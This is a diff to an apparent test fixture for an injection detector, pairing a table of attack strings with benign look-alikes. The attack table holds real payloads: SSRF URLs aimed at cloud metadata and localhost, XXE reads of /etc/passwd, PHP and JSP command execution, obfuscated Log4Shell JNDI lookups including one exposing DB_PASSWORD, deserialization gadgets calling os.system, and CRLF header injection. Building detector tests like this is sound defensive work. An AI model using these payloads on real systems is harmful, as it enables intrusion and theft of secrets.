@@ -20,6 +20,7 @@ const ATTACKS: Readonly<Record<string, readonly string[]>> = {
   ssrf: [
     "http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/computeMetadata/v1/", "http://127.0.0.1:6379/", "http://localhost/admin", "http://2130706433/", "http://0x7f000001/", "http://0177.0.0.1/", "http://127.1/",
     "http://[::ffff:127.0.0.1]/", "http://[::1]/", "http://x@127.0.0.1/", "//127.0.0.1/x", "http://10.0.0.1.nip.io/", "http://abc.oastify.com/", "see http://abc.burpcollaborator.net/ for it", "http://0/",
+    "http:\\\\127.0.0.1\\x", "http:127.0.0.1", "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/", "http://127.0.0.1#@example.com/", "http://192.0.0.192/latest/", "http://instance-data/latest/", "http://ip6-localhost/",
   ],
   xml: [
     '<!DOCTYPE a SYSTEM "//x/x"><a/>', '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', '<!ENTITY % x SYSTEM "http://x/">', '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></a>', '<xs:import schemaLocation="http://x/"/>',
@@ -28,24 +29,26 @@ const ATTACKS: Readonly<Record<string, readonly string[]>> = {
   include: ['<!--#exec cmd="ls"-->', "<!-- #include virtual=/etc/passwd -->", "<!--#echo var='DATE_LOCAL' -->", '<esi:include src="http://x/"/>', "<?php system($_GET['c']); ?>", "<?=`id`?>", '<%= Runtime.getRuntime().exec("id") %>', '<jsp:include page="x"/>'],
   lookup: [
     "${jndi:ldap://x/a}", "${jndi:dns://x}", "${${lower:j}ndi:ldap://x/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", "${${env:NOTHING:-j}ndi${env:NOTHING:-:}ldap://x}", "${JNDI:LDAP://x}", "%24%7Bjndi:ldap://x%7D", "x ${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:ldap://x",
+    "${env:DB_PASSWORD}", "${ctx:userId}", "${java:version}",
   ],
   prototype: ["__proto__", "__proto__[admin]", "a[__proto__][b]", "constructor.prototype.admin", "constructor[prototype][admin]", '{"__proto__":{"admin":true}}', '{"constructor":{"prototype":{"a":1}}}', "a.__proto__.b"],
   object: [
     "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "aced00057372", 'O:8:"stdClass":1:{s:1:"a";i:1;}', 'a:1:{i:0;O:4:"User":0:{}}', "AAEAAAD/////AQAAAAAAAAAMAgAAAFlTeXN0ZW0", "gASVIwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg", "cos\nsystem\n(S'id'\ntR.",
     "BAhvOkBBY3RpdmVTdXBwb3J0", "!!python/object/apply:os.system ['id']", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader []]", '{"rce":"_$$ND_FUNC$$_function(){}()"}', '{"@type":"com.sun.rowset.JdbcRowSetImpl"}', '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}', '<java class="java.beans.XMLDecoder">',
+    '{"py/object":"os.system"}', "<jdk.nashorn.internal.objects.NativeString>",
   ],
   header: ["\r\nSet-Cookie: a=b", "en\r\nSet-Cookie: a=b", "\nLocation: https://evil.example/", "x\r\n\r\nHTTP/1.1 200 OK\r\n\r\n<html>", "x\r\nGET /admin HTTP/1.1", "%0d%0aSet-Cookie:a=b", "\u560d\u560aSet-Cookie:a=b", "en\r\nTransfer-Encoding: chunked"],
   graphql: ["{__schema{types{name}}}", "query { __type(name: \"User\") { fields { name } } }", '{"query":"{__schema {queryType { name }}}"}'],
 }; // biome-ignore format: one list each
 
 const HONEST: Readonly<Record<string, readonly string[]>> = {
-  path: ["../images/logo.png", "see ../README and ../../docs for more", "wait... what?", "1..10", "C:\\Users\\anna\\Documents\\a b.xlsx", "https://example.com/etc/terms", "Edit /etc/hosts and start again.", "and/or", "12/24/2026", "a/b/c.txt", "//example.com/x.js", "\\alpha\\beta", "data: a; file: b", "PHP: a fractal"],
-  ssrf: ["https://example.com/?next=http://example.org/", "http://localhost:3000/callback", "Open http://192.168.0.1 in your browser", "// a comment", "https://sub.domain.co.kr/경로", "version 127.0.0.1 is fine", "http://1.2.3.example.com/"],
+  path: ["../images/logo.png", "see ../README and ../../docs for more", "wait... what?", "1..10", "C:\\Users\\anna\\Documents\\a b.xlsx", "https://example.com/etc/terms", "Edit /etc/hosts and start again.", "and/or", "12/24/2026", "a/b/c.txt", "//example.com/x.js", "\\alpha\\beta", "data: a; file: b", "PHP: a fractal", "/docs/etc/readme", "/blog/etc/terms", "shop/usr/local/guide"],
+  ssrf: ["https://example.com/?next=http://example.org/", "http://localhost:3000/callback", "Open http://192.168.0.1 in your browser", "// a comment", "https://sub.domain.co.kr/경로", "version 127.0.0.1 is fine", "http://1.2.3.example.com/", "http:see there", "https://example.com/#@top", "http://caf\u00e9.example/", "http://[2001:db8::1]/"],
   xml: ['<!DOCTYPE html><html lang="ko">', '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">', '<?xml version="1.0" encoding="UTF-8"?><a/>', "<![CDATA[text & more]]>", '<project xmlns="http://maven.apache.org/POM/4.0.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd">'],
   include: ["<!-- a comment -->", "<!-- # of items -->", "5 <% of 10", "<?xml version='1.0'?>", "a <? b"],
-  lookup: ["Hello ${name}!", "cost: ${price} (${currency})", "`${items.length} items`", "{{ user.name }}", "#{id}", "${{ secrets.KEY }}"],
+  lookup: ["Hello ${name}!", "cost: ${price} (${currency})", "`${items.length} items`", "{{ user.name }}", "#{id}", "${{ secrets.KEY }}", "${env:HOME}/bin", "${env:USERNAME}", "set ${java:home} first"],
   prototype: ["Object.prototype is shared", "the constructor of the prototype", "my_proto_type", "__init__", "We talked about __proto__ yesterday."],
-  object: ["a:1 b:2", "O: 8", "Note: Order: 5", "com.example.app.Main", "at java.lang.Thread.run(Thread.java:829)", "hello!!", "system.out", "key: !important", "2026-11-21T10:00:00.000Z"],
+  object: ["a:1 b:2", "O: 8", "Note: Order: 5", "com.example.app.Main", "at java.lang.Thread.run(Thread.java:829)", "hello!!", "system.out", "key: !important", "2026-11-21T10:00:00.000Z", "BAh7B0kiD3Nlc3Npb25faWQ=--0123456789abcdef0123456789abcdef01234567", 'see "py/test" there'],
   header: ["first line\nsecond line", "Dear all,\n\nDate: Friday\nLocation: room 3\n\nBye", "From: a@example.com\nContent-Type: text/plain\nSubject: x\n\nhello", "a\r\nb\r\nc", "Note:\n  - Host: the one who invites"],
   graphql: ["{ user { __typename name } }", "__typename", "my__schema_name"],
 }; // biome-ignore format: one list each
